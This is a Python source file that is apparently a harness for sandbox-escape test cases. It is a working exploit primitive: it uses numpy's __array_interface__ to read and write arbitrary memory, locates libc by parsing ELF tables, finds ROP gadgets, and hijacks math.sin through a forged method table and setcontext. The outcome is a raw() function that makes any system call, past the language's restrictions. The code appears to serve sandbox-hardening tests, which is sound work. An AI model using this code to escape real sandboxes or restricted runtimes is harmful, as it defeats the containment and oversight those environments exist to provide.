# SPDX-License-Identifier: Apache-2.0
# Not a test: the text of a Python task that has taken over its own process. numpy lets it read and write any address
# (`__array_interface__`); with that it rebuilds a built-in function into one that switches to registers and a stack of
# its choice. What it gets is raw(number, ...): any system call, past everything that the language refuses, so that only
# the kernel's walls are left. Case files put their own `attack()` below it; `attempt` tells errors by name.
import math
import re
import struct

import numpy as np

NAMES = {"EPERM": 1, "ENOENT": 2, "ESRCH": 3, "EBADF": 9, "EAGAIN": 11, "ENOMEM": 12, "EACCES": 13, "EFAULT": 14, "EEXIST": 17,
         "ENOTDIR": 20, "EINVAL": 22, "EMFILE": 24, "EFBIG": 27, "ENOSPC": 28, "EROFS": 30, "EPIPE": 32, "ENOSYS": 38, "ELOOP": 40}


def memory(address, length, kind="|u1"):
    holder = type("Memory", (), {"__array_interface__": {"data": (address, False), "typestr": kind, "shape": (length,), "version": 3}})
    return np.asarray(holder())


def text(address, length):
    return memory(address, length).tobytes()


def word(address):
    return int(memory(address, 1, "<u8")[0])


def poke(address, value):
    memory(address, 1, "<u8")[0] = value


def image(address):
    """Start of the loaded file that the address is in."""
    address &= ~0xFFF
    while text(address, 4) != b"\x7fELF":
        address -= 0x1000
    return address


def dynamic(base):
    at, count = base + word(base + 32), struct.unpack("<H", text(base + 56, 2))[0]
    for i in range(count):
        kind, _, _, virtual = struct.unpack("<IIQQ", text(at + 56 * i, 24))
        if kind == 2:
            table, entry = {}, base + virtual
            while word(entry):
                table[word(entry)] = word(entry + 8)
                entry += 16
            return table


def symbols(table):
    """[(name, value)] of the dynamic symbols, in order."""
    names, entries = text(table[5], table[10]), text(table[6], table[5] - table[6])
    return [(names[name: names.index(b"\0", name)], value) for name, _, _, _, value, _ in struct.iter_unpack("<IBBHQQ", entries)]


def text_limits(base):
    at, count = base + word(base + 32), struct.unpack("<H", text(base + 56, 2))[0]
    for i in range(count):
        kind, flags, _, virtual, _, size = struct.unpack("<IIQQQQ", text(at + 56 * i, 40))
        if kind == 1 and flags & 1:
            return base + virtual, size


def find_libc():
    python = image(word(word(id(len) + 16) + 8))
    table = dynamic(python)
    wanted = [name for name, _ in symbols(table)].index(b"__cxa_finalize")  # of libc, and bound when it is loaded
    for offset, info, _ in struct.iter_unpack("<QQq", text(table[7], table[8])):
        if info >> 32 == wanted:
            return image(word(python + offset))


LIBC = find_libc()
SYMBOLS = {name: LIBC + value for name, value in symbols(dynamic(LIBC)) if value}
_start, _size = text_limits(LIBC)
_code = text(_start, _size)
_store = re.search(rb"\x48\x89\x47([\x00-\x7f])\xc3", _code)  # mov %rax,n(%rdi); ret
POP_RDI, STORE, SHIFT = _start + _code.index(b"\x5f\xc3"), _start + _store.start(), _store[1][0]
del _code, _store

_space = np.zeros(8192, dtype="<u8")
SPACE = _space.__array_interface__["data"][0]
SAVED, RESULT, STACK, METHOD = (SPACE + 63) & ~63, SPACE + 2048, SPACE + 32768, SPACE + 2304
_sin = id(math.sin)
for _i in range(4):
    poke(METHOD + 8 * _i, word(word(_sin + 16) + 8 * _i))
poke(METHOD + 8, SYMBOLS[b"swapcontext"])


def raw(number, *arguments):
    """(result, errno) of a system call."""
    a = [x & (2**64 - 1) for x in arguments] + [0] * (6 - len(arguments))
    chain = [POP_RDI, a[5], POP_RDI, RESULT - SHIFT, STORE, SYMBOLS[b"__errno_location"], POP_RDI, RESULT + 8 - SHIFT, STORE, POP_RDI, SAVED, SYMBOLS[b"setcontext"]]
    for i, value in enumerate(chain):
        poke(STACK + 8 * i, value)
    registers = [0] * 23
    registers[8], registers[9], registers[12], registers[14], registers[0], registers[1] = number, a[0], a[1], a[2], a[3], a[4]
    registers[15], registers[16] = STACK, SYMBOLS[b"syscall"]
    context = bytearray(1024)
    struct.pack_into("<23Q", context, 40, *registers)
    struct.pack_into("<Q", context, 224, SAVED + 424)
    struct.pack_into("<I", context, 424 + 24, 0x1F80)
    crafted = bytes(context[32:])  # an object's head stands where nothing is read
    poke(_sin + 16, METHOD)
    poke(_sin + 24, SAVED)
    try:
        math.sin(crafted)
    except SystemError:
        pass
    result = struct.unpack("<q", text(RESULT, 8))[0]
    return result, struct.unpack("<i", text(word(RESULT + 8), 4))[0] if result == -1 else 0


def attempt(number, *arguments):
    result, error = raw(number, *arguments)
    return "ok" if result != -1 else next((name for name, value in NAMES.items() if value == error), str(error))


def buffer(content=b"", size=4096):
    """Address of memory with this content; it lives as long as the task."""
    block = np.zeros(max(size, len(content) + 1), dtype="|u1")
    block[: len(content)] = list(content)
    _blocks.append(block)
    return block.__array_interface__["data"][0]


_blocks = []
